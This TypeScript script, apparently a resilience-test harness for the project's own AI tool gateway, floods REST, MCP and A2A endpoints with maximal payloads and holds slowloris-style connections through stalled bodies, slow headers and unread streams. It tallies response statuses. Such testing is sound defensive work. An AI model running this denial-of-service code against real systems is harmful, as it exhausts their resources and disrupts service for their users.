import { Agent, request } from "node:http";
import { connect } from "node:net";
import { setPriority } from "node:os";
import { setTimeout as pause } from "node:timers/promises";

/**
 * One caller without rights that harms the gateway as much as it can, until SIGTERM:
 * `node attacker.ts URL KEY`. Its payloads are made once, and it runs at the lowest priority, so that it takes the gateway's time and not that of
 * whoever measures. Prints how often each status was answered.
 */
const [, , url = "", key = ""] = process.argv;
const { hostname, port } = new URL(url);

const MEBIBYTE = 1024 * 1024;
const NEARLY_ALL = 4 * MEBIBYTE - 8192;
const CONNECTIONS = 48;

setPriority(19);
const agent = new Agent({ keepAlive: true, maxSockets: CONNECTIONS });
const statuses = new Map<string, number>();
const count = (what: string): void => void statuses.set(what, (statuses.get(what) ?? 0) + 1);
const stopped = new AbortController();

interface Payload {
  readonly name: string;
  readonly method?: string;
  readonly path: string;
  readonly body?: Buffer;
  readonly headers?: Readonly<Record<string, string>>;
}

const text = "x".repeat(NEARLY_ALL - 4096);
const words = "send the invoice of order 4711 to the customer ".repeat(340);
const members = Array.from({ length: 95_000 }, (_, place) => `"k${place}":${place}`).join();
const json = (value: string): Buffer => Buffer.from(value);
const rpc = (method: string, params: string): Buffer =>
  json(`{"jsonrpc":"2.0","id":1,"method":"${method}","params":${params}}`);
const META = `"_meta":{"io.modelcontextprotocol/protocolVersion":"2026-07-28","io.modelcontextprotocol/clientInfo":{"name":"eve","version":"1"},"io.modelcontextprotocol/clientCapabilities":{}}`;
const MODERN = { "mcp-protocol-version": "2026-07-28" };
const BEGIN = `{"protocolVersion":"2025-11-25","capabilities":{},"clientInfo":{"name":"eve","version":"1"}}`;
const message = (parts: string): string => `{"message":{"messageId":"m","role":"ROLE_USER","parts":[${parts}]}}`;

/** Requests that are as large, as many-membered or as expensive as the limits allow, on every surface. */
const PAYLOADS: readonly Payload[] = [
  { name: "search, large", path: "/api/v1/search", body: json(`{"context":{"query":"${text}"}}`) },
  {
    name: "search, long",
    path: "/api/v1/search",
    body: json(`{"context":{"query":"${words}"},"limit":100,"explain":true}`),
  },
  {
    name: "execute, large",
    path: "/api/v1/execute",
    body: json(`{"toolName":"look_up","arguments":{"id":"${text}"}}`),
  },
  { name: "execute, many", path: "/api/v1/execute", body: json(`{"toolName":"look_up","arguments":{${members}}}`) },
  { name: "execute, unknown", path: "/api/v1/execute", body: json(`{"toolName":"${words}","arguments":{}}`) },
  {
    name: "batch",
    path: "/api/v1/batch",
    body: json(
      `{"calls":[${Array.from({ length: 100 }, () => `{"toolName":"look_up","arguments":{"id":"1"}}`).join()}]}`,
    ),
  },
  { name: "not JSON", path: "/api/v1/execute", body: json(`{"toolName":${"[".repeat(100_000)}`) },
  { name: "list tools", method: "GET", path: "/api/v1/tools?limit=1000" },
  { name: "document", method: "GET", path: "/openapi.json" },
  { name: "dashboard", method: "GET", path: "/ui/" },
  { name: "metrics", method: "GET", path: "/metrics" },
  { name: "begin a session", path: "/mcp", body: rpc("initialize", BEGIN) },
  {
    name: "modern call, large",
    path: "/mcp",
    body: rpc("tools/call", `{"name":"look_up","arguments":{"id":"${text}"},${META}}`),
    headers: { ...MODERN, "mcp-method": "tools/call", "mcp-name": "look_up" },
  },
  {
    name: "modern list",
    path: "/mcp",
    body: rpc("tools/list", `{${META}}`),
    headers: { ...MODERN, "mcp-method": "tools/list" },
  },
  {
    name: "A2A, large",
    path: "/a2a",
    body: rpc("SendMessage", message(`{"text":"find a tool"},{"data":{"x":"${text}"}}`)),
  },
  {
    name: "A2A, parts",
    path: "/a2a",
    body: rpc("SendMessage", message(Array.from({ length: 256 }, () => `{"text":"${words.slice(0, 900)}"}`).join())),
  },
  { name: "A2A, list", path: "/a2a", body: rpc("ListTasks", '{"pageSize":100}') },
];

const HEADERS = { "content-type": "application/json", accept: "application/json, text/event-stream", "x-api-key": key };

function send({ name, method = "POST", path, body, headers }: Payload): Promise<void> {
  return new Promise((resolve) => {
    const length = body === undefined ? {} : { "content-length": body.length };
    const sent = request(
      { agent, hostname, port, path, method, headers: { ...HEADERS, ...headers, ...length }, timeout: 30_000 },
      (response) => {
        count(`${name}: ${response.statusCode}`);
        response.resume().once("close", resolve);
      },
    );
    sent.once("error", () => {
      count(`${name}: no answer`);
      resolve();
    });
    sent.end(body);
  });
}

/** Sends the payloads one after the other, beginning at its own. */
async function flood(start: number): Promise<void> {
  for (let next = start; !stopped.signal.aborted; next++) {
    const payload = PAYLOADS[next % PAYLOADS.length];
    if (payload !== undefined) await send(payload);
  }
}

/** Opens streams that it never reads, and connections that never finish their request. A refused one is opened again. */
async function hold(kind: string, head: string): Promise<void> {
  while (!stopped.signal.aborted) {
    const socket = connect(Number(port), hostname);
    socket.on("error", () => undefined);
    socket.write(head);
    await Promise.race([
      new Promise((resolve) => socket.once("close", resolve)),
      new Promise((resolve) => process.once("SIGTERM", resolve)),
    ]);
    count(`${kind}: closed`);
    socket.destroy();
    if (!stopped.signal.aborted) await pause(50);
  }
}

const head = (method: string, path: string, more = ""): string =>
  `${method} ${path} HTTP/1.1\r\nhost: ${hostname}:${port}\r\nx-api-key: ${key}\r\naccept: text/event-stream\r\n${more}\r\n`;
const HELD: readonly (readonly [kind: string, head: string])[] = [
  ["stream of /sse", head("GET", "/sse")],
  ["reader of events", head("GET", "/api/v1/events")],
  [
    "slow body",
    head("POST", "/api/v1/search", "content-type: application/json\r\ncontent-length: 4000000\r\n") + '{"context":',
  ],
  ["slow headers", head("POST", "/mcp", "x-slow: ")],
];

process.setMaxListeners(0);
process.once("SIGTERM", () => {
  stopped.abort();
  agent.destroy();
});
const work = [
  ...Array.from({ length: CONNECTIONS }, (_, place) => flood(place)),
  ...HELD.flatMap(([kind, opening]) => Array.from({ length: 40 }, () => hold(kind, opening))),
];
process.stdout.write("attacking\n");
await Promise.all(work);
process.stdout.write(`${JSON.stringify(Object.fromEntries([...statuses].sort()))}\n`);
